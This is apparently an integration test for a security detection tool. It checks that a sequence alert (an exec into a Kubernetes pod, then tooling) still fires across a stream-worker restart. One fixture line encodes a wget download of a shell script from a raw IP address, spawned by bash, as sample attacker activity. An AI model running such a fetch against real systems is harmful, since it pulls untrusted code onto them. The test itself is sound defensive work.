"""Sequence state survives a stream-worker restart: the detection state is a Faust table whose changelog is in
Kafka, so a sequence whose first step was seen before the restart completes after it."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from tests.integration.harness import wait_for
from vigil import kafka
from vigil.sources.audit.fixtures import audit_record
from vigil.sources.source import get_source
from vigil.sources.tetragon.fixtures import tetragon_record

pytestmark = pytest.mark.integration

VIGIL = str(Path(sys.executable).with_name("vigil"))
EXEC = audit_record("create", "pods", name="web-7f9c", subresource="exec", code=101,
                    query="command=bash&container=app&stdin=true&tty=true")
WGET = tetragon_record(binary="/usr/bin/wget", arguments="http://45.33.32.156/x.sh", parent="/bin/bash",
                       time="2025-03-04T06:22:40.000000Z")


class Worker:
    """``vigil stream worker`` as the separate process it is in production."""

    def __init__(self, settings, log: Path) -> None:
        env = os.environ | {
            "VIGIL_KAFKA_TOPIC_PREFIX": settings.kafka.topic_prefix,
            "VIGIL_DATA_DIR": settings.data_dir,
            "VIGIL_CLUSTER": settings.cluster,
        }
        with open(log, "ab") as out:
            self.process = subprocess.Popen([VIGIL, "stream", "worker"], env=env, stdout=out,
                                            stderr=subprocess.STDOUT, start_new_session=True)

    def stop(self) -> None:
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(60)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait(10)


async def send(settings, source_name: str, record: dict) -> None:
    source = get_source(source_name)
    producer = kafka.producer(settings)
    await producer.start()
    try:
        key = source.key(record, settings.cluster).encode()
        await producer.send_and_wait(settings.topic(f"raw.{source_name}"), kafka.encode_batch([record]), key=key)
    finally:
        await producer.stop()


async def test_a_sequence_started_before_a_worker_restart_completes_after_it(kafka_settings, read_documents,
                                                                              tmp_path):
    settings = kafka_settings
    settings.cluster = "state"
    log = tmp_path / "worker.log"
    worker = Worker(settings, log)
    try:
        await send(settings, "k8s-audit", EXEC)
        events = await read_documents(settings, "events", expected=1, timeout=120)
        assert [e["original_id"] for e in events] == [EXEC["auditID"]]
        worker.stop()
        assert not [a for a in await read_documents(settings, "alerts", expected=1, timeout=1)
                    if a["detection"] == "seq.exec_then_tooling"]

        worker = Worker(settings, log)
        await send(settings, "tetragon", WGET)

        async def sequence_alert():
            alerts = await read_documents(settings, "alerts", expected=2, timeout=5)
            return [a for a in alerts if a["detection"] == "seq.exec_then_tooling"]

        (alert,) = await wait_for(sequence_alert, timeout=180)
        assert alert["pod"] == "web-7f9c" and alert["user"] == "alice@example.com"
        assert [step["source"] for step in alert["context"]["steps"]] == ["k8s-audit", "tetragon"]
    finally:
        worker.stop()
        sys.stderr.write(log.read_text(errors="replace")[-4000:])
